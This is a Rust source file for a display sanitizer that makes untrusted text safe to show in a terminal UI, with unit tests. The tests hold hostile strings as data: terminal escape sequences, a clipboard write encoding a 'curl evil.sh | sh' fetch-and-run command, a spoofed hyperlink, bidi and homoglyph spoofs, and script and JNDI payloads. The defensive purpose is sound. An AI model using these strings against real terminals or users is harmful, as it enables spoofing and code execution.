//! The one display sanitizer for untrusted text (DESIGN.md §8, shared/hostile-strings.md).
//!
//! Raw text is stored unchanged; this only produces what is *shown*. The output never holds a
//! C0/C1/DEL character: C0 controls become caret escapes (`^[`, `^@`, DEL `^?`), C1 controls,
//! bidi controls and invisible characters become `⟨U+XXXX⟩` markers, tabs become four spaces,
//! tag characters are stripped, combining marks are capped per base and length is capped.
//! Work is bounded by the cap, not the input: at most `window_len(cap)` bytes are ever read.

use unicode_normalization::char::is_combining_mark;
use unicode_segmentation::UnicodeSegmentation;

/// Combining marks (and other extenders: variation selectors, emoji modifiers, halfwidth
/// sound marks, conjoining jamo runs) kept per base character.
pub const MAX_MARKS: usize = 4;
/// ZWJ/ZWNJ joins kept inside one grapheme (the longest RGI emoji sequences use 3).
const MAX_JOINS: usize = 3;
/// Appended when a line was cut.
pub const ELLIPSIS: char = '…';
/// Shown for a line break inside a one-line field.
pub const NEWLINE_MARK: &str = "⏎";
const TAB: &str = "    ";

/// What the sanitizer changed; drives the badges next to a field.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Flags {
    /// C0/C1/DEL controls were escaped (tabs and line breaks do not count).
    pub controls: bool,
    /// Bidi controls were marked.
    pub bidi: bool,
    /// Zero-width / invisible / filler characters were marked.
    pub hidden: bool,
    /// Tag characters (U+E0000–U+E007F) were stripped.
    pub tags_stripped: bool,
    /// Combining marks beyond [`MAX_MARKS`] per base were dropped.
    pub marks_capped: bool,
    /// Length (graphemes, lines or the byte window) was capped.
    pub truncated: bool,
    /// A word mixes Latin with Cyrillic or Greek (identity fields only).
    pub mixed_script: bool,
}

impl Flags {
    /// True when any badge should be shown.
    pub fn any(self) -> bool {
        self != Flags::default()
    }

    /// Both sets of flags.
    pub fn union(self, o: Flags) -> Flags {
        Flags {
            controls: self.controls || o.controls,
            bidi: self.bidi || o.bidi,
            hidden: self.hidden || o.hidden,
            tags_stripped: self.tags_stripped || o.tags_stripped,
            marks_capped: self.marks_capped || o.marks_capped,
            truncated: self.truncated || o.truncated,
            mixed_script: self.mixed_script || o.mixed_script,
        }
    }
}

/// Sanitized display text plus what was changed.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Safe {
    pub text: String,
    pub flags: Flags,
}

/// One display line: controls visible, line breaks shown as `⏎` (CR LF as one), at most
/// `max_graphemes` graphemes (escapes and markers count one per character and are never
/// split), then `…` and `truncated`.
pub fn sanitize_line(raw: &str, max_graphemes: usize) -> Safe {
    let (text, flags) = segment(raw, max_graphemes, false);
    Safe { text, flags }
}

/// Multi-line block: split on `\n`, `\r\n`, U+2028, U+2029 (like `str::lines`, a final
/// terminator adds no empty line), at most `max_lines` lines of at most `max_graphemes` each.
pub fn sanitize_block(raw: &str, max_lines: usize, max_graphemes: usize) -> (Vec<String>, Flags) {
    let budget = window_len(max_graphemes).saturating_mul(max_lines.saturating_add(1));
    let window = prefix(raw, budget);
    let cut = window.len() < raw.len();
    let mut flags = Flags {
        truncated: cut,
        ..Flags::default()
    };
    let mut lines = Vec::with_capacity(max_lines.min(64));
    let mut rest = window;
    while !rest.is_empty() {
        if lines.len() >= max_lines {
            flags.truncated = true;
            break;
        }
        let brk = find_break(rest);
        let (line, next) = brk.unwrap_or((rest.len(), rest.len()));
        let (text, f) = segment(&rest[..line], max_graphemes, cut && brk.is_none());
        lines.push(text);
        flags = flags.union(f);
        rest = &rest[next..];
    }
    (lines, flags)
}

/// Identity fields (names, handles): [`sanitize_line`], plus `mixed_script` detection, and a
/// name that would render blank (only fillers, spaces, tags, marks) is spelled out as markers.
pub fn sanitize_identity(raw: &str, max_graphemes: usize) -> Safe {
    let mut safe = sanitize_line(raw, max_graphemes);
    if !raw.is_empty() && looks_blank(&safe.text) {
        let mut out = Out::new(max_graphemes);
        let window = prefix(raw, window_len(max_graphemes));
        let mut truncated = window.len() < raw.len();
        for c in window.chars() {
            if !out.escape(&marker(c), |f| f.hidden = true) {
                truncated = true;
                break;
            }
        }
        if truncated {
            out.text.push(ELLIPSIS);
        }
        safe.text = out.text;
        safe.flags.hidden = true;
        safe.flags.truncated |= truncated;
    }
    safe.flags.mixed_script = is_mixed_script(&safe.text);
    safe
}

/// True when a word (run of letters, digits and marks) mixes letters of at least two of
/// Latin, Cyrillic and Greek — the homoglyph shape of `pаypal` with a Cyrillic `а`.
pub fn is_mixed_script(s: &str) -> bool {
    let mut seen = [false; 3];
    for c in s.chars().chain(std::iter::once(' ')) {
        if c.is_alphanumeric() || is_combining_mark(c) {
            if let Some(i) = script(c) {
                seen[i] = true;
            }
        } else {
            if seen.iter().filter(|s| **s).count() >= 2 {
                return true;
            }
            seen = [false; 3];
        }
    }
    false
}

/// Bytes of input read for a cap of `max_graphemes`: generous for real text (a family emoji
/// is 25 bytes), bounded for hostile text (a base with 10,000 marks is one grapheme).
fn window_len(max_graphemes: usize) -> usize {
    max_graphemes.saturating_mul(32).saturating_add(256)
}

/// Longest prefix of `s` of at most `max_bytes` bytes ending on a char boundary.
fn prefix(s: &str, max_bytes: usize) -> &str {
    if s.len() <= max_bytes {
        return s;
    }
    let mut i = max_bytes;
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    &s[..i]
}

/// First line break in `s`: (end of the line, start of the next); CR LF counts as one.
fn find_break(s: &str) -> Option<(usize, usize)> {
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\n' if i > 0 && b[i - 1] == b'\r' => return Some((i - 1, i + 1)),
            b'\n' => return Some((i, i + 1)),
            // U+2028 / U+2029 are E2 80 A8 / E2 80 A9; 0xE2 is only ever a lead byte.
            0xE2 if b.get(i + 1) == Some(&0x80) && matches!(b.get(i + 2), Some(0xA8 | 0xA9)) => {
                return Some((i, i + 3))
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// Output under construction; `units` approximates the grapheme count of `text`.
#[derive(Default)]
struct Out {
    text: String,
    flags: Flags,
    units: usize,
    max: usize,
    need_unit: bool,
    prev: Option<char>,
    base: Option<char>,
}

impl Out {
    fn new(max: usize) -> Self {
        let need_unit = true;
        Out {
            max,
            need_unit,
            ..Out::default()
        }
    }

    fn take(&mut self, n: usize) -> bool {
        if self.units.saturating_add(n) > self.max {
            return false;
        }
        self.units += n;
        true
    }

    /// A character that starts (or continues, inside one input grapheme) a cluster.
    fn base(&mut self, c: char) -> bool {
        if self.need_unit {
            if !self.take(1) {
                return false;
            }
            self.need_unit = false;
        }
        self.text.push(c);
        (self.prev, self.base) = (Some(c), Some(c));
        true
    }

    /// A character that attaches to whatever precedes it in the output.
    fn attach(&mut self, c: char) -> bool {
        if self.text.is_empty() && !self.take(1) {
            return false;
        }
        self.text.push(c);
        self.prev = Some(c);
        true
    }

    /// An escape or marker: all or nothing, one unit per character; `flag` runs if shown.
    fn escape(&mut self, s: &str, flag: fn(&mut Flags)) -> bool {
        if !self.take(s.chars().count()) {
            return false;
        }
        self.text.push_str(s);
        (self.prev, self.base, self.need_unit) = (None, None, true);
        flag(&mut self.flags);
        true
    }
}

/// Sanitize one segment; `cut` says the caller already dropped input after it.
fn segment(full: &str, max: usize, cut: bool) -> (String, Flags) {
    let window = prefix(full, window_len(max));
    let after_window = full[window.len()..].chars().next();
    let mut out = Out::new(max);
    let mut full_stop = false;
    'graphemes: for (start, g) in window.grapheme_indices(true) {
        let after_g = window[start + g.len()..].chars().next().or(after_window);
        out.need_unit = true;
        if is_tag_flag(g) {
            if !out.base('\u{1F3F4}') {
                full_stop = true;
                break;
            }
            out.text.push_str(&g['\u{1F3F4}'.len_utf8()..]);
            continue;
        }
        let (mut marks, mut joins) = (0, 0);
        for (i, c) in g.char_indices() {
            if marks >= MAX_MARKS && is_combining_mark(c) {
                out.flags.marks_capped = true; // fast path for Zalgo floods
                continue;
            }
            let next = g[i + c.len_utf8()..].chars().next().or(after_g);
            let ok = match c {
                '\n' | '\u{2028}' | '\u{2029}' => out.escape(NEWLINE_MARK, |_| {}),
                '\r' if next == Some('\n') => true,
                '\t' => out.escape(TAB, |_| {}),
                '\0'..='\u{1f}' => {
                    let caret = ['^', char::from(b'@' + c as u8)];
                    out.escape(&String::from_iter(caret), |f| f.controls = true)
                }
                '\u{7f}' => out.escape("^?", |f| f.controls = true),
                '\u{80}'..='\u{9f}' => out.escape(&marker(c), |f| f.controls = true),
                _ if is_bidi(c) => out.escape(&marker(c), |f| f.bidi = true),
                '\u{E0000}'..='\u{E007F}' => {
                    out.flags.tags_stripped = true;
                    true
                }
                '\u{200C}' | '\u{200D}' => {
                    let keep = joins < MAX_JOINS
                        && out.prev.is_some()
                        && matches!((out.base, next), (Some(b), Some(n))
                            if joinable(b) && joinable(n) && !(b.is_ascii() && n.is_ascii()));
                    if keep {
                        joins += 1;
                        out.attach(c)
                    } else {
                        out.escape(&marker(c), |f| f.hidden = true)
                    }
                }
                _ if is_hidden(c) => out.escape(&marker(c), |f| f.hidden = true),
                _ if is_extender(c, out.prev) => {
                    if marks < MAX_MARKS {
                        marks += 1;
                        out.attach(c)
                    } else {
                        out.flags.marks_capped = true;
                        true
                    }
                }
                _ => {
                    marks = 0;
                    out.base(c)
                }
            };
            if !ok {
                full_stop = true;
                break 'graphemes;
            }
        }
    }
    if full_stop || cut || window.len() < full.len() {
        out.flags.truncated = true;
        out.text.push(ELLIPSIS);
    }
    (out.text, out.flags)
}

fn marker(c: char) -> String {
    format!("⟨U+{:04X}⟩", u32::from(c))
}

fn is_bidi(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// Default-ignorable and other invisible format characters (ZWJ/ZWNJ, variation selectors,
/// bidi controls and tags are handled separately) plus noncharacters.
fn is_hidden(c: char) -> bool {
    matches!(u32::from(c),
        0x00AD | 0x034F | 0x0600..=0x0605 | 0x06DD | 0x070F | 0x0890..=0x0891 | 0x08E2
        | 0x115F | 0x1160 | 0x17B4 | 0x17B5 | 0x180E | 0x200B | 0x2060..=0x2065
        | 0x206A..=0x206F | 0x3164 | 0xFDD0..=0xFDEF | 0xFEFF | 0xFFA0 | 0xFFF0..=0xFFFB
        | 0xFFFE | 0xFFFF | 0x110BD | 0x110CD | 0x13430..=0x1343F | 0x1BCA0..=0x1BCA3
        | 0x1D173..=0x1D17A | 0xE0080..=0xE00FF | 0xE01F0..=0xE0FFF)
}

fn is_jamo(c: char) -> bool {
    matches!(c, '\u{1100}'..='\u{11FF}' | '\u{A960}'..='\u{A97F}' | '\u{D7B0}'..='\u{D7FF}')
}

/// Characters that extend the preceding base on screen and so count against [`MAX_MARKS`].
fn is_extender(c: char, prev: Option<char>) -> bool {
    is_combining_mark(c)
        || matches!(c, '\u{1F3FB}'..='\u{1F3FF}' | '\u{FF9E}' | '\u{FF9F}')
        || (is_jamo(c) && prev.is_some_and(is_jamo))
}

fn is_emoji_like(c: char) -> bool {
    matches!(u32::from(c),
        0xA9 | 0xAE | 0x203C | 0x2049 | 0x2122 | 0x2139 | 0x2190..=0x21FF | 0x2300..=0x23FF
        | 0x24C2 | 0x25A0..=0x27BF | 0x2934 | 0x2935 | 0x2B00..=0x2BFF | 0x3030 | 0x303D
        | 0x3297 | 0x3299 | 0x1F000..=0x1FAFF)
}

/// What a kept ZWJ/ZWNJ may sit between: letters, digits, emoji.
fn joinable(c: char) -> bool {
    !is_hidden(c) && (c.is_alphanumeric() || is_emoji_like(c))
}

/// 🏴 followed by a well-formed subdivision tag sequence (e.g. England `gbeng` + CANCEL TAG).
fn is_tag_flag(g: &str) -> bool {
    let mut chars = g.chars();
    if chars.next() != Some('\u{1F3F4}') {
        return false;
    }
    let (mut n, mut ended) = (0, false);
    for c in chars {
        match u32::from(c) {
            _ if ended => return false,
            0xE007F => ended = true,
            0xE0061..=0xE007A => n += 1,
            0xE0030..=0xE0039 if n >= 2 => n += 1,
            _ => return false,
        }
    }
    ended && (3..=6).contains(&n)
}

/// 0 = Latin, 1 = Cyrillic, 2 = Greek.
fn script(c: char) -> Option<usize> {
    match u32::from(c) {
        0x41..=0x5A | 0x61..=0x7A | 0xAA | 0xBA | 0xC0..=0xD6 | 0xD8..=0xF6 | 0xF8..=0x2AF => {
            Some(0)
        }
        0x1D00..=0x1D7F | 0x1E00..=0x1EFF | 0x2C60..=0x2C7F | 0xA720..=0xA7FF => Some(0),
        0xAB30..=0xAB6F | 0xFB00..=0xFB06 | 0xFF21..=0xFF3A | 0xFF41..=0xFF5A => Some(0),
        0x400..=0x52F | 0x1C80..=0x1C8F | 0x2DE0..=0x2DFF | 0xA640..=0xA69F => Some(1),
        0x370..=0x3FF | 0x1F00..=0x1FFF => Some(2),
        _ => None,
    }
}

/// Renders as nothing visible: empty, only spaces/blank glyphs, or zero cells wide.
fn looks_blank(text: &str) -> bool {
    text.chars().all(|c| c.is_whitespace() || c == '\u{2800}') || super::width::width(text) == 0
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;

    fn flags(names: &str) -> Flags {
        let mut f = Flags::default();
        for name in names.split_whitespace() {
            match name {
                "controls" => f.controls = true,
                "bidi" => f.bidi = true,
                "hidden" => f.hidden = true,
                "tags" => f.tags_stripped = true,
                "marks" => f.marks_capped = true,
                "truncated" => f.truncated = true,
                "mixed" => f.mixed_script = true,
                _ => panic!("unknown flag {name}"),
            }
        }
        f
    }

    /// Each (raw, shown, flags) through `f` with a cap of `cap` graphemes.
    fn check(f: fn(&str, usize) -> Safe, cap: usize, cases: &[(&str, &str, &str)]) {
        for (raw, shown, names) in cases {
            let want = Safe {
                text: shown.to_string(),
                flags: flags(names),
            };
            assert_eq!(f(raw, cap), want, "{raw:?}");
        }
    }

    /// hostile-strings.md rows 1–17 (row 13 below): every control visible, flag `controls`.
    #[rustfmt::skip]
    const CONTROLS: &[(&str, &str, &str)] = &[
        ("a\x1b[2J\x1b[Hb", "a^[[2J^[[Hb", "controls"),
        ("ok\x1b[1A\x1b[2Kfake", "ok^[[1A^[[2Kfake", "controls"),
        ("\x1b[8mhidden\x1b[0m \x1b[31mRED", "^[[8mhidden^[[0m ^[[31mRED", "controls"),
        ("\x1b]0;sudo rm -rf ~\x07", "^[]0;sudo rm -rf ~^G", "controls"),
        ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07", "^[]52;c;Y3VybCBldmlsLnNoIHwgc2gK^G", "controls"),
        ("\x1b]52;c;?\x07", "^[]52;c;?^G", "controls"),
        ("\x1b]8;;https://evil.example/\x1b\\https://bank.example\x1b]8;;\x1b\\",
            "^[]8;;https://evil.example/^[\\https://bank.example^[]8;;^[\\", "controls"),
        ("\x1b]8;;https://x\x1b[31m rest", "^[]8;;https://x^[[31m rest", "controls"),
        ("\x1bP$qm\x1b\\", "^[P$qm^[\\", "controls"),
        ("\x1b]l;evil\x1b\\\x1b[21t", "^[]l;evil^[\\^[[21t", "controls"),
        ("a\u{9b}2Jb \u{9d}0;t\u{9c}", "a⟨U+009B⟩2Jb ⟨U+009D⟩0;t⟨U+009C⟩", "controls"),
        ("a\u{85}b", "a⟨U+0085⟩b", "controls"),
        ("Legit text\rFAKE", "Legit text^MFAKE", "controls"),
        ("admin\x08\x08\x08\x08\x08guest", "admin^H^H^H^H^Hguest", "controls"),
        ("a\u{0000}b", "a^@b", "controls"),
        ("a\x7fb", "a^?b", "controls"),
        ("\x0b\x0c\x1f", "^K^L^_", "controls"),
    ];

    /// Rows 18–22: bidi controls and invisible characters become markers.
    #[rustfmt::skip]
    const MARKED: &[(&str, &str, &str)] = &[
        ("invoice\u{202E}gnp.exe", "invoice⟨U+202E⟩gnp.exe", "bidi"),
        ("user\u{202E} \u{2066}// admin\u{2069} \u{2066}",
            "user⟨U+202E⟩ ⟨U+2066⟩// admin⟨U+2069⟩ ⟨U+2066⟩", "bidi"),
        ("\u{200F}\u{061C}\u{200E}x", "⟨U+200F⟩⟨U+061C⟩⟨U+200E⟩x", "bidi"),
        ("ad\u{200B}min", "ad⟨U+200B⟩min", "hidden"),
        ("\u{FEFF}admin", "⟨U+FEFF⟩admin", "hidden"),
        ("a\u{2060}b", "a⟨U+2060⟩b", "hidden"),
        ("\u{3164}", "⟨U+3164⟩", "hidden"),
        ("\u{115F}", "⟨U+115F⟩", "hidden"),
        ("\u{1160}\u{FFA0}\u{034F}", "⟨U+1160⟩⟨U+FFA0⟩⟨U+034F⟩", "hidden"),
        ("\u{180E}\u{2061}\u{00AD}", "⟨U+180E⟩⟨U+2061⟩⟨U+00AD⟩", "hidden"),
        ("a\u{200D}b", "a⟨U+200D⟩b", "hidden"), // a joiner between ASCII letters is a spoof
        ("\u{200C}x", "⟨U+200C⟩x", "hidden"),
        ("می\u{200C}خواهم", "می\u{200C}خواهم", ""), // Persian ZWNJ stays
        ("क्\u{200D}ष", "क्\u{200D}ष", ""), // Devanagari ZWJ stays
    ];

    /// Rows 23–35 that are plain strings, at a cap of 80.
    #[rustfmt::skip]
    const OTHERS: &[(&str, &str, &str)] = &[
        ("hi\u{E0041}\u{E0042}\u{E0043}", "hi", "tags"),
        ("🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
            "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", ""), // England flag
        ("🏴\u{E0041}\u{E007F}", "🏴", "tags"),
        ("👨‍👩‍👧‍👦 🇺🇸 ⌨️ 🐻‍❄️ 👁️‍🗨️ 🥲🏻 😹 1️⃣ 👍🏽 ❤️‍🔥", "👨‍👩‍👧‍👦 🇺🇸 ⌨️ 🐻‍❄️ 👁️‍🗨️ 🥲🏻 😹 1️⃣ 👍🏽 ❤️‍🔥", ""),
        ("🥲🏻🏻🏻🏻🏻🏻", "🥲🏻🏻🏻🏻", "marks"),
        ("ｶﾞﾞﾞﾞﾞﾞ", "ｶﾞﾞﾞﾞ", "marks"),
        ("a\u{FE0F}\u{FE0F}\u{FE0F}\u{FE0F}\u{FE0F}b", "a\u{FE0F}\u{FE0F}\u{FE0F}\u{FE0F}b", "marks"),
        // Over-long ZWJ chains (one grapheme, two cells for ratatui) are broken up.
        ("👨‍👨‍👨‍👨‍👨‍", "👨‍👨‍👨‍👨⟨U+200D⟩👨⟨U+200D⟩", "hidden"),
        ("コンピュータ", "コンピュータ", ""),
        ("你好，世界！", "你好，世界！", ""),
        ("ｶﾞｷﾞｸﾞ", "ｶﾞｷﾞｸﾞ", ""),
        ("Привет שלום مرحبا", "Привет שלום مرحبا", ""),
        ("a\u{2028}b\u{2029}c", "a⏎b⏎c", ""),
        ("a\r\nb\nc", "a⏎b⏎c", ""),
        ("pay\tme", "pay    me", ""),
        ("x\u{FFFD}", "x\u{FFFD}", ""), // row 31 after a lossy decode
        ("[red]x[/red] {0} %s%n <script>alert(1)</script> ${jndi:x}",
            "[red]x[/red] {0} %s%n <script>alert(1)</script> ${jndi:x}", ""),
    ];

    /// Every hostile string of the tables above (for the property tests in `width.rs`).
    pub(in crate::text) fn table_inputs() -> impl Iterator<Item = &'static str> {
        CONTROLS
            .iter()
            .chain(MARKED)
            .chain(OTHERS)
            .map(|case| case.0)
    }

    #[test]
    fn hostile_rows_exact() {
        check(sanitize_line, 500, CONTROLS);
        check(sanitize_line, 64, MARKED);
        check(sanitize_identity, 64, MARKED);
        check(sanitize_line, 80, OTHERS);
        let bells = sanitize_line(&"\x07".repeat(1000), 100); // row 13: whole ^G pairs only
        assert_eq!(bells.text, format!("{}…", "^G".repeat(50)));
        assert_eq!(bells.flags, flags("controls truncated"));
        let zalgo = format!("Z{}", "\u{0301}\u{0316}\u{0344}".repeat(50)); // row 24
        check(
            sanitize_line,
            80,
            &[(&zalgo, "Z\u{0301}\u{0316}\u{0344}\u{0301}", "marks")],
        );
        let json = [
            0x7B, 0x22, 0x62, 0x22, 0x3A, 0x22, 0x61, 0xFF, 0x62, 0x22, 0x7D,
        ]; // row 32
        let json = String::from_utf8_lossy(&json);
        let overlong = String::from_utf8_lossy(&[0xC0, 0xAF]);
        check(sanitize_line, 80, &[(&json, "{\"b\":\"a\u{FFFD}b\"}", "")]);
        check(sanitize_line, 80, &[(&overlong, "\u{FFFD}\u{FFFD}", "")]);
        let (deep, deep_shown) = ("[".repeat(200), format!("{}…", "[".repeat(80))); // row 34
        check(sanitize_line, 80, &[(&deep, &deep_shown, "truncated")]);
    }

    #[test]
    fn identities() {
        check(
            sanitize_identity,
            80,
            &[("pаypal", "pаypal", "mixed"), ("paypal", "paypal", "")],
        );
        check(
            sanitize_identity,
            80,
            &[
                ("コンピュータ", "コンピュータ", ""),
                ("Ελλάδα", "Ελλάδα", ""),
            ],
        );
        assert!(
            is_mixed_script("pay-pаl") && is_mixed_script("αdmin") && is_mixed_script("Ρусский")
        );
        assert!(!is_mixed_script("paypal Привет Ελλάδα café 1α ⟨U+0430⟩"));
        // A name that would render blank is spelled out.
        check(
            sanitize_identity,
            64,
            &[("   ", "⟨U+0020⟩⟨U+0020⟩⟨U+0020⟩", "hidden")],
        );
        check(
            sanitize_identity,
            64,
            &[("\u{2800}", "⟨U+2800⟩", "hidden"), ("", "", "")],
        );
        check(
            sanitize_identity,
            64,
            &[("\u{E0041}", "⟨U+E0041⟩", "hidden tags")],
        );
        check(sanitize_identity, 64, &[("\u{0301}", "⟨U+0301⟩", "hidden")]);
        check(sanitize_identity, 2, &[(" ", "…", "hidden truncated")]);
        check(
            sanitize_identity,
            8,
            &[("  ", "⟨U+0020⟩…", "hidden truncated")],
        );
        check(sanitize_line, 64, &[("   ", "   ", "")]);
    }

    #[test]
    fn blocks() {
        let own = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let (lines, f) = sanitize_block("a\u{2028}b\u{2029}c\r\nd\n\ne\rf\n", 10, 80);
        assert_eq!(
            (lines, f),
            (own(&["a", "b", "c", "d", "", "e^Mf"]), flags("controls"))
        );
        assert_eq!(sanitize_block("", 10, 80), (vec![], Flags::default()));
        assert_eq!(sanitize_block("\n", 10, 80), (own(&[""]), Flags::default()));
        assert_eq!(
            sanitize_block("a\u{85}b", 5, 80),
            (own(&["a⟨U+0085⟩b"]), flags("controls"))
        );
        assert_eq!(
            sanitize_block("a\tb\nc\nd", 2, 80),
            (own(&["a    b", "c"]), flags("truncated"))
        );
        assert_eq!(
            sanitize_block("abcd\nef", 5, 2),
            (own(&["ab…", "ef"]), flags("truncated"))
        );
        assert_eq!(sanitize_block("x", 0, 2), (vec![], flags("truncated")));
        let long = format!("ab\n{}", "c".repeat(1000)); // the window (2 × 320 bytes) ends in line 2
        assert_eq!(
            sanitize_block(&long, 1, 2),
            (own(&["ab"]), flags("truncated"))
        );
        let (lines, f) = sanitize_block(&format!("{}\n", "y".repeat(639)), 1, 2);
        assert_eq!((lines, f), (own(&["yy…"]), flags("truncated")));
    }

    #[test]
    fn huge_inputs_row_33() {
        let (xs, xs_shown) = ("x".repeat(100_000), format!("{}…", "x".repeat(500)));
        let (nl, nl_shown) = (
            "\n".repeat(100_000),
            format!("{}…", NEWLINE_MARK.repeat(500)),
        );
        let marks = format!("x{}", "\u{0301}".repeat(10_000));
        check(
            sanitize_line,
            500,
            &[(&xs, &xs_shown, "truncated"), (&nl, &nl_shown, "truncated")],
        );
        check(
            sanitize_line,
            500,
            &[(
                &marks,
                "x\u{0301}\u{0301}\u{0301}\u{0301}…",
                "marks truncated",
            )],
        );
        let (lines, f) = sanitize_block(&nl, 50, 80);
        assert_eq!((lines.len(), f), (50, flags("truncated")));
        check(sanitize_line, 0, &[("abc", "…", "truncated"), ("", "", "")]);
        check(
            sanitize_line,
            3,
            &[("abc", "abc", ""), ("abcd", "abc…", "truncated")],
        );
        // O(cap), not O(input): 1 MB and 64 MB bodies cost microseconds.
        let mb = "y".repeat(1 << 20);
        let big = "\u{0301}".repeat(32 << 20);
        let start = std::time::Instant::now();
        for _ in 0..10 {
            assert_eq!(sanitize_line(&mb, 500).text.chars().count(), 501);
            assert!(sanitize_line(&big, 500).flags.truncated);
            assert_eq!(sanitize_block(&mb, 40, 500).0.len(), 1);
        }
        assert!(
            start.elapsed() < std::time::Duration::from_millis(200),
            "{:?}",
            start.elapsed()
        );
    }
}
